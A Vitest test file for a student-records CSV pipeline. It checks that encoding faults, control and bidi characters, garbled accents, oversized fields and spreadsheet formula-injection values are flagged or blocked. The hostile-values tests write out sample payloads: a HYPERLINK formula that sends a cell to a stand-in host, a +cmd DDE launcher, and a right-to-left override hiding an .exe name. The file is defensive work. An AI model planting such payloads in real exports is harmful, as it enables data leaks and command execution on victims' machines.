/**
 * The bad-input corpus for hostile and damaged SIS data, each case an export folder read through
 * the real pipeline (export-folder source → students-upper-snake → folder destination):
 * - encodings: a UTF-8 export with one stray Windows-1252 byte, a Windows-1252 export read as auto,
 *   the same export with encoding windows-1252, a UTF-16 export with a BOM;
 * - formulas (=HYPERLINK, @SUM, +cmd, a leading tab) flagged, neutralised on request; signed numbers not;
 * - control characters, NUL, bidi overrides, U+FFFD and garbled accents;
 * - a field over maxFieldLength, and a 50 MB field of NUL and bidi characters read in a process of
 *   its own whose memory growth is measured.
 * Each produces a precise finding (file, row or line, column, value, rule, message) — never a
 * silent success with garbled data, and with errors nothing is delivered.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeSync, existsSync, mkdirSync, mkdtempSync, openSync, readFileSync, rmSync, writeFileSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import { closeAgent, openAgent, type AgentContext } from '../../src/home/context.js';
import { runDestination, type RunResult } from '../../src/agent/runner.js';
import { destinationConfigSchema, sourceConfigSchema } from '../../src/shared/config.schema.js';
import type { Finding } from '../../src/shared/run.js';
import { killAllStarted, REPO_ROOT, spawnTs } from '../helpers/child-process.js';

let root: string;
let ctx: AgentContext;

const HEADER = 'student_id,first_name,last_name,grade,school_codes,email\r\n';

/** Saves an export-folder source holding `students.csv` and a destination writing into `out`; returns the destination name. */
function setUp(name: string, students: Buffer, sourceSettings: Record<string, unknown> = {}, destination: Record<string, unknown> = {}): { dest: string; out: string } {
  const exportDir = join(root, name, 'export');
  const out = join(root, name, 'out');
  mkdirSync(exportDir, { recursive: true });
  writeFileSync(join(exportDir, 'students.csv'), students);
  ctx.store.saveSource(sourceConfigSchema.parse({ name, type: 'folder', settings: { path: exportDir, quietPeriodSeconds: 0, ...sourceSettings }, entities: { students: { file: 'students.csv' } } }));
  ctx.store.saveDestination(destinationConfigSchema.parse({ name, source: name, format: 'students-upper-snake', type: 'folder', settings: { path: out }, ...destination }));
  ctx.store.replaceSiteMap(name, [{ schoolCode: '003', siteId: 'S3', label: 'Lincoln' }]);
  return { dest: name, out };
}

async function run(name: string, students: Buffer, sourceSettings: Record<string, unknown> = {}, destination: Record<string, unknown> = {}): Promise<RunResult & { out: string }> {
  const { dest, out } = setUp(name, students, sourceSettings, destination);
  return { ...(await runDestination(ctx, dest, { trigger: 'manual' })), out };
}

const utf8 = (text: string): Buffer => Buffer.from(text, 'utf8');
const delivered = (out: string): string => readFileSync(join(out, 'students.csv'), 'utf8');
const only = (findings: readonly Finding[], rule: string): Finding[] => findings.filter((f) => f.rule === rule);

beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'rs-corpus-'));
  ctx = openAgent(join(root, 'home'));
});
afterAll(async () => {
  await killAllStarted();
  closeAgent(ctx);
  rmSync(root, { recursive: true, force: true });
});

describe('encodings', () => {
  it('a UTF-8 export with one stray 0xE9 fails with a finding naming file, line and byte offset; no name is garbled', async () => {
    const before = utf8(`${HEADER}000101,Ana,Rodríguez,5,003,ana@school.org\r\n000102,José,Núñez,5,003,\r\n000103,Ren`);
    const bytes = Buffer.concat([before, Buffer.from([0xe9]), utf8(',Lee,5,003,\r\n000104,Zoë,Rodríguez,5,003,\r\n')]);
    const result = await run('stray-byte', bytes);
    expect(result.status).toBe('failed');
    const [finding] = only(result.findings, 'encoding');
    expect(finding).toMatchObject({ severity: 'error', file: 'students.csv', row: 0, value: '0xE9', origin: 'students.csv line 4' });
    expect(finding!.message).toContain(`students.csv line 4, byte offset ${before.length}: byte 0xE9 is not valid UTF-8`);
    expect(finding!.message).toContain('fix it in the SIS and export again');
    expect(result.message).toContain('byte offset');
    expect(existsSync(join(result.out, 'students.csv'))).toBe(false);
    expect(JSON.stringify(result)).not.toContain('RodrÃ');
  });

  it('a Windows-1252 export read as auto fails telling the admin to set windows-1252; set, every name arrives right', async () => {
    const text = `${HEADER}000101,Ana,Rodríguez,5,003,\r\n000102,Zoë,Dupré,5,003,\r\n`;
    const refused = await run('ansi-auto', iconv.encode(text, 'win1252'));
    expect(refused.status).toBe('failed');
    expect(only(refused.findings, 'encoding')[0]!.message).toMatch(/students\.csv line 2, byte offset \d+: byte 0xED is not valid UTF-8.*2 more invalid sequences follow: line 3 \(byte offset \d+\), line 3 \(byte offset \d+\)\. .*set this source's encoding to windows-1252/);

    const read = await run('ansi-set', iconv.encode(text, 'win1252'), { encoding: 'windows-1252' });
    expect(read.status, read.message).toBe('success');
    expect(delivered(read.out)).toContain('000101,Ana,Rodríguez,5,S3,Lincoln');
    expect(delivered(read.out)).toContain('000102,Zoë,Dupré,5,S3,Lincoln');
  });

  it('a UTF-16 export with a BOM is read right without any setting', async () => {
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(`${HEADER}000101,Ana,Rodríguez,5,003,\r\n`, 'utf16le')]);
    const result = await run('utf16', bytes);
    expect(result.status, result.message).toBe('success');
    expect(delivered(result.out)).toContain('000101,Ana,Rodríguez,5,S3,Lincoln');
  });
});

describe('hostile values', () => {
  const formulas = utf8(
    `${HEADER}000101,"=HYPERLINK(""http://x.example/?""&A1,""Click"")",Lee,5,003,\r\n000102,Bo,@SUM(1+1),5,003,\r\n000103,+cmd|' /C calc'!A0,Kim,5,003,\r\n000104,Cy,-5,5,003,\r\n`,
  );

  it('formula-like values are warnings naming row and column; a signed number is not; delivered as they are by default', async () => {
    const result = await run('formulas', formulas);
    expect(result.status, result.message).toBe('success');
    expect(only(result.findings, 'formula').map((f) => [f.row, f.column, f.value, f.severity, f.origin])).toEqual([
      [1, 'FIRST_NAME', '=HYPERLINK("http://x.example/?"&A1,"Click")', 'warning', 'students.csv line 2'],
      [2, 'LAST_NAME', '@SUM(1+1)', 'warning', 'students.csv line 3'],
      [3, 'FIRST_NAME', "+cmd|' /C calc'!A0", 'warning', 'students.csv line 4'],
    ]);
    expect(delivered(result.out)).toContain('000102,Bo,@SUM(1+1),');
  });

  it('with neutraliseFormulas the delivered file carries a leading quote the trim step cannot remove', async () => {
    const withTab = Buffer.concat([formulas, utf8('000105,"\t=1+1",Tab,5,003,\r\n')]);
    const result = await run('neutralised', withTab, {}, { neutraliseFormulas: true });
    expect(result.status, result.message).toBe('success');
    const text = delivered(result.out);
    expect(text).toContain(`000101,"'=HYPERLINK(""http://x.example/?""&A1,""Click"")",Lee,`);
    expect(text).toContain("000102,Bo,'@SUM(1+1),");
    expect(text).toContain("000103,'+cmd|' /C calc'!A0,Kim,");
    expect(text).toContain('000104,Cy,-5,');
    // The SIS's own tab neutraliser is trimmed away by the format's trim step; the formula under it is still neutralised.
    expect(text).toContain("000105,'=1+1,Tab,");
    expect(only(result.findings, 'formula')[0]!.message).toContain("written with a leading ' (neutraliseFormulas)");
  });

  it('control characters, NUL, bidi overrides and lost characters are errors naming the code point; nothing is delivered', async () => {
    const bytes = utf8(`${HEADER}000101,Ann\u0000,Lee,5,003,\r\n000102,Bo\u001b[31m,Kim,5,003,\r\n000103,Cy,\u202Egpj.exe,5,003,\r\n000104,Di,Rodr\uFFFDguez,5,003,\r\n000105,Ed,Ok,5,003,\r\n`);
    // Block on any error: every row is written, so each finding's row is its row in students.csv.
    const result = await run('controls', bytes, {}, { onValidationError: 'block' });
    expect(result.status).toBe('failed');
    expect(result.findings.filter((f) => f.severity === 'error').map((f) => [f.row, f.column, f.rule, f.message.slice(0, f.message.indexOf(';'))])).toEqual([
      [1, 'FIRST_NAME', 'control-character', 'contains U+0000 NUL at character 4'],
      [2, 'FIRST_NAME', 'control-character', 'contains U+001B ESCAPE at character 3'],
      [3, 'LAST_NAME', 'bidi-override', 'contains U+202E RIGHT-TO-LEFT OVERRIDE at character 1'],
      [4, 'LAST_NAME', 'lost-character', 'contains U+FFFD REPLACEMENT CHARACTER at character 5'],
    ]);
    expect(existsSync(join(result.out, 'students.csv'))).toBe(false);
  });

  it('garbled accents (UTF-8 read as Windows-1252 before the export) are a warning with the repaired spelling', async () => {
    const result = await run('mojibake', utf8(`${HEADER}000101,Ana,RodrÃ­guez,5,003,\r\n`));
    expect(result.status, result.message).toBe('success');
    expect(only(result.findings, 'mojibake')).toEqual([
      expect.objectContaining({ severity: 'warning', row: 1, column: 'LAST_NAME', value: 'RodrÃ­guez', message: expect.stringContaining('it reads "Rodríguez" when decoded right') }),
    ]);
  });
});

describe('giant fields', () => {
  it('a value over maxFieldLength fails the run with file, line, column, length and limit', async () => {
    const result = await run('long-field', utf8(`${HEADER}000101,Ana,${'x'.repeat(5000)},5,003,\r\n`), { maxFieldLength: 4096 });
    expect(result.status).toBe('failed');
    expect(only(result.findings, 'field-length')).toEqual([
      {
        severity: 'error',
        file: 'students.csv',
        row: 0,
        column: 'last_name',
        value: '5,000 characters',
        rule: 'field-length',
        origin: 'students.csv line 2',
        message: expect.stringMatching(/^students\.csv line 2, column last_name: the value is 5,000 characters long; the limit is 4,096 characters/),
      },
    ]);
  });

  it('a 50 MB field of NUL and bidi characters is refused at the limit while memory stays bounded', { timeout: 120_000 }, async () => {
    const { dest } = setUp('giant', utf8(''));
    const file = join(root, 'giant', 'export', 'students.csv');
    const fd = openSync(file, 'w');
    writeSync(fd, `${HEADER}000101,Ana,Lee,5,003,\r\n000102,"`);
    const block = Buffer.from('\u0000\u202E\u2066'.repeat(1024 * 1024 / 8), 'utf8'); // 896 KiB of NUL and bidi controls
    let written = 0;
    while (written < 50 * 1024 * 1024) written += writeSync(fd, block);
    writeSync(fd, '",Kim,5,003,\r\n');
    closeSync(fd);

    // The run happens in a process of its own, so its peak memory is its own.
    const child = spawnTs(join(REPO_ROOT, 'test', 'helpers', 'run-sync-peak-rss.ts'), [ctx.layout.home, dest]);
    const done = await child.exited;
    expect(done.code, done.stderr).toBe(0);
    const report = JSON.parse(done.stdout.trim().split('\n').pop()!) as { status: string; findings: Finding[]; startRssMiB: number; peakRssMiB: number };
    expect(report.status).toBe('failed');
    expect(only(report.findings, 'field-length')).toEqual([
      expect.objectContaining({
        file: 'students.csv',
        column: 'first_name',
        origin: 'students.csv line 3',
        value: 'longer than 4,194,304 bytes (reading stopped there)',
        message: expect.stringContaining('the limit is 65,536 characters'),
      }),
    ]);
    // Growth during the run, not the absolute figure: a child that had to transpile the sources first starts higher.
    // Holding the field would cost several copies of 50 MB (the reported 745 MB); the parser stops at 4 MiB.
    expect(report.peakRssMiB - report.startRssMiB, `${report.startRssMiB} → ${report.peakRssMiB} MiB`).toBeLessThan(100);
  });
});
